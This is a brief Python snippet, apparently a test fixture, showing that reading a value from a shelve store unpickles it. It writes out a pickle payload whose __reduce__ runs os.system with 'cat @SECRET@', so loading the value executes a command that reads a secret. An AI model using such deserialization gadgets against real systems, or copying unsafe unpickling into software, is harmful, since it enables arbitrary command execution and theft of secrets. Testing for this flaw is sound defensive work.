# shelve unpickles values.
# effect: run
import os
import shelve
import tempfile
class Trap:
    def __reduce__(self):
        return os.system, ("cat @SECRET@",)
with shelve.open(os.path.join(tempfile.mkdtemp(), "s")) as shelf:
    shelf["x"] = Trap()
    shelf["x"]
